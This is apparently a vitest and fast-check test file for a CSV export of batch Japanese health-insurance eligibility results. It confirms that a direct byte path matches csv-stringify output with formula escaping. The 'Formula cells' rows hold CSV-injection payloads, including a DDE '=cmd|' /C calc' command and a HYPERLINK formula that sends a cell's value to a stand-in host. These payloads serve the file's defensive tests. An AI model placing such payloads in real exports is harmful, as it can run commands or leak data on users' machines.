// The CSV download of a batch's results (一括照会) is byte-for-byte what it would be with every row
// decoded into objects first and written by csv-stringify with the formula rule (platform/csv.ts):
// checked against a frozen copy of that code (`reference` below, from routes.ts before the direct
// path, its line writer now csv-stringify itself) on hand-made rows of every kind and on generated ones.

import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { decodeAnswer, decodeInput, encodeAnswer, encodeInput, RS } from './codec.ts';
import { CSV_COLUMNS, csvHeader, csvOfPage, type ByteResultPage } from './results-csv.ts';
import type { BatchResultRow, BatchRowInput, RowAnswer } from './service.ts';

// ------------------------------------------------------------ the reference (routes.ts before)

const REF_COLUMNS = [
  'row', 'insurerNumber', 'symbol', 'number', 'branch', 'birthDate', 'asOf', 'result', 'reason', 'code', 'message',
  'name', 'nameKana', 'sex', 'relationship', 'insurerName', 'qualifiedFrom', 'lostOn', 'copayRate', 'paperCardExpiresOn',
];

function refCsvValues(r: BatchResultRow): (string | number)[] {
  const a = r.answer as Record<string, any>;
  const m = (a.member ?? {}) as Record<string, unknown>;
  const s = (v: unknown) => (v === undefined || v === null ? '' : String(v));
  return [
    r.row,
    s(r.input.insurerNumber),
    s(r.input.symbol),
    s(r.input.number),
    s(r.input.branch),
    s(r.input.birthDate),
    s(a.asOf ?? r.input.asOf),
    s(a.result),
    s(a.reason),
    s(a.code),
    a.result === 'error' ? (a.errors as { en: string }[]).map((e) => e.en).join('; ') : s(a.message),
    s(m.name),
    s(m.nameKana),
    s(m.sex),
    s(m.relationship),
    s(m.insurerName),
    s(m.qualifiedFrom),
    s(m.lostOn ?? a.details?.lostOn),
    s(m.copayRate),
    s(m.paperCardExpiresOn),
  ];
}

/** csv-stringify's own formula rule (a string cell starting with = + - @ TAB CR, or their full-width forms, gets a leading '), CR and LF quoted. */
function refCsvLine(values: readonly (string | number)[]): string {
  return stringify([values as (string | number)[]], { record_delimiter: '\n', escape_formulas: true, quote_record_delimiter: true });
}

/** Stored rows: blocks of encoded texts, each from its first row on. */
interface Stored {
  answers: { first: number; texts: string[] }[];
  inputs: { first: number; texts: string[] }[];
}

/** The whole download as the route made it: header, then rows offset+1 … end decoded (results()) and written. */
function reference(stored: Stored, offset: number, end: number): string {
  let out = refCsvLine(REF_COLUMNS);
  for (const b of stored.answers) {
    b.texts.forEach((answer, i) => {
      const row = b.first + i;
      if (row <= offset || row > end) return;
      const at = stored.inputs.find((x) => x.first <= row && row < x.first + x.texts.length);
      const input = at?.texts[row - at.first];
      const r: BatchResultRow = { row, input: input === undefined ? {} : decodeInput(input), answer: decodeAnswer(answer) };
      out += refCsvLine(refCsvValues(r));
    });
  }
  return out;
}

/** The same rows written straight from the stored bytes. */
function direct(stored: Stored, offset: number, end: number): Buffer {
  const bytes = (b: { first: number; texts: string[] }) => ({ first: b.first, count: b.texts.length, bytes: Buffer.from(b.texts.join(RS)) });
  const page: ByteResultPage = { offset, end, answers: stored.answers.map(bytes), inputs: stored.inputs.map(bytes) };
  return Buffer.concat([Buffer.from(csvHeader()), ...csvOfPage(page)]);
}

/** Both ways agree on every range of rows tried. */
function same(stored: Stored, ranges: [number, number][]): void {
  for (const [offset, end] of ranges) expect(direct(stored, offset, end).toString('utf8'), `${offset}…${end}`).toBe(reference(stored, offset, end));
  for (const [offset, end] of ranges) expect(direct(stored, offset, end).equals(Buffer.from(reference(stored, offset, end)))).toBe(true);
}

// ------------------------------------------------------------ rows of every kind

const member = {
  insurerNumber: '06139901', insurerName: '健保組合', symbol: '12', number: '3456', branch: '00', relationship: 'self', name: '山田　太郎',
  nameKana: 'ヤマダ　タロウ', birthDate: '1980-04-01', sex: 'male', address: '東京都千代田区千代田1-1', postalCode: null, qualifiedFrom: '2020-04-01',
  lostOn: null, copayRate: 0.3, paperCardIssuedOn: '2020-04-01', paperCardExpiresOn: null, validFrom: '2020-04-01',
};
const card = { insurerNumber: '06139901', symbol: '12', number: '3456', branch: '00', birthDate: '1980-04-01' };
const valid = (m: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) => ({ result: 'valid', asOf: '2024-11-25', member: { ...member, ...m }, ...extra });
const noSuch = { result: 'invalid', asOf: '2024-11-25', reason: 'no_such_member', message: 'No such member.', messageJa: 'ありません。' };
const lost = { result: 'invalid', asOf: '2024-11-25', reason: 'eligibility_lost', message: 'Lost, see "details".', messageJa: '喪失', details: { lostOn: '2024-10-01' }, newEligibilityExists: false };
const error = {
  result: 'error', code: 'ONSHI_CONFIRMATION_INVALID_INPUT', message: 'Bad.', messageJa: '誤り',
  errors: [{ field: 'birthDate', code: 'required', ja: '必須', en: 'is required' }, { field: 'number', code: 'format', ja: '形式', en: 'bad, "digits"' }],
};

const rows: [BatchRowInput | undefined, Record<string, unknown>][] = [
  [card, valid()],
  [{ ...card, asOf: '2024-11-20' }, valid({ postalCode: '100-0001', lostOn: '2025-01-01', copayRate: 0.1, paperCardExpiresOn: '2026-03-31' }, { limitCategory: null })],
  [{ ...card, limitConsent: true }, valid({}, { limitCategory: 'ア' })],
  [{ ...card, limitConsent: false }, valid({}, { limitCategory: '' })],
  [card, valid({ name: '山田, 太郎', nameKana: 'ヤマダ "タロウ"', address: 'a,b', insurerName: 'line\nbreak', relationship: 'cr\rx', sex: '' })],
  [card, valid({ copayRate: 1e21 }, {})],
  [card, valid({ copayRate: -0 })],
  [card, valid({ copayRate: 5e-7 })],
  [card, valid({ name: 'a\u001fb' })], // stored as JSON
  [card, valid({ extra: 1 })], // stored as JSON
  [card, valid({}, { certificate: { number: '1', issuedOn: '2024-01-01', validUntil: '2025-01-01' } })], // stored as JSON
  [{ ...card, number: '9999' }, noSuch],
  [{ ...card, number: '7777' }, lost],
  [{ ...card, number: '7777' }, { ...lost, details: { lostOn: 20241001 }, newEligibilityExists: true }],
  [{ ...card, number: '7777' }, { ...lost, details: { other: 1 } }],
  [{ ...card, number: '7777' }, { ...lost, details: { lostOn: 'a,"b"' } }],
  [{ ...card, number: '7777' }, { ...lost, details: null }],
  [{ ...card, number: '7777' }, { ...lost, details: [1] }],
  [{ ...card, number: '7777' }, { ...lost, details: 'x' }],
  [{ ...card, number: '7777' }, { ...lost, message: 'a\u001eb' }], // stored as JSON
  [{ ...card, birthDate: undefined }, error],
  [{ insurerNumber: '06139901' }, { ...error, errors: [] }],
  [{}, error],
  [undefined, noSuch], // no input row at all
  [{ ...card, number: 'a,b', symbol: '"q"', branch: 'x\ny', birthDate: '\r' }, noSuch],
  [{ ...card, number: 'a\u001fb', symbol: '\u0002' }, noSuch], // input stored as JSON
  [{ ...card, number: 12 as unknown as string }, noSuch], // a number: stored as JSON
  [{ ...card, asOf: '2024-01-01' }, { result: 'error', code: 'X', messageJa: 'y', errors: [{ en: 'only' }] }], // no asOf in the answer: the input's
  [{ ...card, limitConsent: true, search: { InsurerNumber: '06139901', Birthdate: '19800401', Note: 'a,"b"\n' } }, valid({}, { limitCategory: 'イ' })], // XML
  [{ search: {} }, noSuch],
  [{ insurerNumber: '', symbol: '', number: '', branch: '', birthDate: '', asOf: '' }, { ...noSuch, asOf: '' }],
  [card, { result: 'valid', asOf: '2024-11-25', member: {} }], // odd shapes: JSON
  [card, { result: 'invalid', asOf: null, reason: null, message: null }],
  // Formula cells: the facility's own input echoed, and answer values.
  [{ ...card, symbol: '=1+1', number: '@2', branch: "=cmd|' /C calc'!A0", birthDate: '=HYPERLINK("http://x.example/?"&A1,"y")' }, noSuch],
  [{ ...card, symbol: '+1', number: '-1', branch: '\t=1', birthDate: '\r=1' }, noSuch],
  [{ ...card, symbol: '＝1', number: '－1' }, valid({ name: '=1+1', nameKana: '@SUM(A1)', insurerName: '-2', address: '+3' })],
  [{ ...card, number: '7777' }, { ...lost, message: '=evil', details: { lostOn: '@x' } }],
  [{ ...card, number: '7777' }, { ...lost, details: { lostOn: '=a,"b"' } }],
];

type Listed = readonly [BatchRowInput | undefined, Record<string, unknown>][];

/** Rows first, first + 1, … stored in blocks of the given sizes; a row without input splits its input blocks. */
function store(list: Listed, first = 1, answerBlock = 2000, inputBlock = 1000): Stored {
  const stored: Stored = { answers: [], inputs: [] };
  list.forEach(([input, answer], i) => {
    const row = first + i;
    const a = stored.answers.at(-1);
    if (a && a.texts.length < answerBlock) a.texts.push(encodeAnswer(answer as unknown as RowAnswer));
    else stored.answers.push({ first: row, texts: [encodeAnswer(answer as unknown as RowAnswer)] });
    if (input === undefined) return;
    const b = stored.inputs.at(-1);
    if (b && b.texts.length < inputBlock && b.first + b.texts.length === row) b.texts.push(encodeInput(input));
    else stored.inputs.push({ first: row, texts: [encodeInput(input)] });
  });
  return stored;
}

describe('results.csv', () => {
  it('has the same columns', () => {
    expect(CSV_COLUMNS).toEqual(REF_COLUMNS);
    expect(csvHeader()).toBe(refCsvLine(REF_COLUMNS));
  });

  it('writes rows of every kind exactly as before', () => {
    const stored = store(rows);
    const answers = stored.answers.flatMap((b) => b.texts);
    const inputs = stored.inputs.flatMap((b) => b.texts);
    // Some answers and inputs really take the JSON form.
    expect(answers.filter((a) => a.startsWith('J')).length).toBeGreaterThan(5);
    expect(inputs.filter((i) => i.startsWith('\u0001')).length).toBe(2);
    same(stored, [[0, rows.length], [0, 10_000]]);
    // Later rows, blocks of other sizes, part of the rows, gaps between answer blocks.
    same(store(rows, 99_999), [[99_998, 199_999]]);
    same(store(rows, 1, 4, 3), [[0, rows.length], [3, 9], [5, 6], [6, 6], [rows.length - 1, rows.length + 5]]);
    const gaps = store(rows, 1, 5, 2);
    gaps.answers.forEach((b, k) => (b.first += 3 * k));
    same(gaps, [[0, 1000], [4, 20]]);
    expect(reference(stored, 0, rows.length)).toMatchInlineSnapshot(`
      "row,insurerNumber,symbol,number,branch,birthDate,asOf,result,reason,code,message,name,nameKana,sex,relationship,insurerName,qualifiedFrom,lostOn,copayRate,paperCardExpiresOn
      1,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      2,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,2025-01-01,0.1,2026-03-31
      3,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      4,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      5,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,"山田, 太郎","ヤマダ ""タロウ""",,"cr
      x","line
      break",2020-04-01,,0.3,
      6,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,1e+21,
      7,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0,
      8,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,5e-7,
      9,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,ab,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      10,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      11,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      12,06139901,12,9999,00,1980-04-01,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      13,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,2024-10-01,,
      14,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,20241001,,
      15,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,,,
      16,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,"a,""b""",,
      17,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,,,
      18,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,,,
      19,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,,,
      20,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,ab,,,,,,,2024-10-01,,
      21,06139901,12,3456,00,,,error,,ONSHI_CONFIRMATION_INVALID_INPUT,"is required; bad, ""digits""",,,,,,,,,
      22,06139901,,,,,,error,,ONSHI_CONFIRMATION_INVALID_INPUT,,,,,,,,,,
      23,,,,,,,error,,ONSHI_CONFIRMATION_INVALID_INPUT,"is required; bad, ""digits""",,,,,,,,,
      24,,,,,,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      25,06139901,"""q""","a,b","x
      y","'
      ",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      26,06139901,,ab,00,1980-04-01,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      27,06139901,12,12,00,1980-04-01,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      28,06139901,12,3456,00,1980-04-01,2024-01-01,error,,X,only,,,,,,,,,
      29,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,山田　太郎,ヤマダ　タロウ,male,self,健保組合,2020-04-01,,0.3,
      30,,,,,,2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      31,,,,,,,invalid,no_such_member,,No such member.,,,,,,,,,
      32,06139901,12,3456,00,1980-04-01,2024-11-25,valid,,,,,,,,,,,,
      33,06139901,12,3456,00,1980-04-01,,invalid,,,,,,,,,,,,
      34,06139901,'=1+1,'@2,'=cmd|' /C calc'!A0,"'=HYPERLINK(""http://x.example/?""&A1,""y"")",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      35,06139901,'+1,'-1,'	=1,"'
      =1",2024-11-25,invalid,no_such_member,,No such member.,,,,,,,,,
      36,06139901,'＝1,'－1,00,1980-04-01,2024-11-25,valid,,,,'=1+1,'@SUM(A1),male,self,'-2,2020-04-01,,0.3,
      37,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,'=evil,,,,,,,'@x,,
      38,06139901,12,7777,00,1980-04-01,2024-11-25,invalid,eligibility_lost,,"Lost, see ""details"".",,,,,,,"'=a,""b""",,
      "
    `);
  });

  it('writes generated rows exactly as before', () => {
    // Mostly values the compact form can hold (CSV's special characters included); now and then a
    // reserved character, which makes the row's JSON form.
    const text = fc.oneof(
      { arbitrary: fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r', ' ', 'ア', '0', '.', '-', '=', '+', '@', '\t', '＝', '＠', "'"), maxLength: 6 }), weight: 6 },
      { arbitrary: fc.constantFrom('06139901', '2024-11-25', '山田　太郎', ''), weight: 6 },
      { arbitrary: fc.string({ maxLength: 6 }), weight: 1 },
      { arbitrary: fc.string({ unit: fc.constantFrom('a', ',', '\u0001', '\u0002', '\u001e', '\u001f'), maxLength: 3 }), weight: 1 },
    );
    const opt = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined, freq: 3 });
    const nullable = fc.oneof(text, fc.constant(null));
    const input: fc.Arbitrary<BatchRowInput | undefined> = fc.option(
      fc.record(
        {
          insurerNumber: opt(text), symbol: opt(text), number: opt(text), branch: opt(text), birthDate: opt(text), asOf: opt(text),
          limitConsent: opt(fc.boolean()), search: opt(fc.dictionary(fc.string({ maxLength: 3 }), text, { maxKeys: 2 })),
        },
        { requiredKeys: [] },
      ),
      { nil: undefined, freq: 10 },
    );
    const copayRate = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0.3, 0.1, 0.2, 0, -0, 1e21, 1e-7));
    const memberArb = fc.record({
      insurerNumber: text, insurerName: text, symbol: text, number: text, branch: text, relationship: text, name: text, nameKana: text, birthDate: text,
      sex: text, address: text, postalCode: nullable, qualifiedFrom: text, lostOn: nullable, copayRate, paperCardIssuedOn: nullable, paperCardExpiresOn: nullable, validFrom: text,
    });
    const validArb = fc.record(
      { result: fc.constant('valid'), asOf: text, member: memberArb, limitCategory: fc.oneof(text, fc.constant(null)) },
      { requiredKeys: ['result', 'asOf', 'member'] },
    );
    const details = fc.oneof(fc.record({ lostOn: fc.oneof(text, fc.integer(), fc.constant(null)) }), fc.constant(null), fc.constant({}), fc.constant([1]));
    const invalidArb = fc.record(
      { result: fc.constant('invalid'), asOf: text, reason: text, message: text, messageJa: text, details, newEligibilityExists: fc.boolean() },
      { requiredKeys: ['result', 'asOf', 'reason', 'message', 'messageJa'] },
    );
    const errorArb = fc.record({
      result: fc.constant('error'), code: text, message: text, messageJa: text,
      errors: fc.array(fc.record({ field: text, code: text, ja: text, en: text }), { maxLength: 3 }),
    });
    const kinds: Record<string, number> = {};
    const answer = fc.oneof({ arbitrary: validArb, weight: 3 }, { arbitrary: invalidArb, weight: 2 }, { arbitrary: errorArb, weight: 1 });
    fc.assert(
      fc.property(fc.array(fc.tuple(input, answer), { minLength: 1, maxLength: 30 }), fc.integer({ min: 1, max: 200_000 }), fc.integer({ min: 1, max: 40 }), fc.integer({ min: -2, max: 10 }), (list, first, blockSize, cut) => {
        const stored = store(list as Listed, first, blockSize, blockSize + 1);
        for (const b of stored.answers) for (const a of b.texts) kinds[a[0]] = (kinds[a[0]] ?? 0) + 1;
        same(stored, [[first - 1, first - 1 + list.length], [first + cut, first + cut + list.length]]);
      }),
      { numRuns: 2000 },
    );
    // Both ways are taken often: the direct one (V, I) and the decoded one (J).
    expect(kinds.V).toBeGreaterThan(2000);
    expect(kinds.I).toBeGreaterThan(2000);
    expect(kinds.J).toBeGreaterThan(2000);
  });

  it('writes a row in one chunk, chunks of some 256 KB', () => {
    const many: Listed = Array.from({ length: 5000 }, (_, i) => rows[i % rows.length]);
    const stored = store(many);
    const page: ByteResultPage = { offset: 0, end: 5000, answers: stored.answers.map((b) => ({ first: b.first, count: b.texts.length, bytes: Buffer.from(b.texts.join(RS)) })), inputs: [] };
    const chunks = csvOfPage(page);
    expect(chunks.length).toBeGreaterThan(1);
    for (const c of chunks.slice(0, -1)) expect(c.length).toBeGreaterThanOrEqual(256 * 1024);
    for (const c of chunks) expect(c.at(-1)).toBe(0x0a);
    same({ ...stored, inputs: [] }, [[0, 5000]]);
  });
});
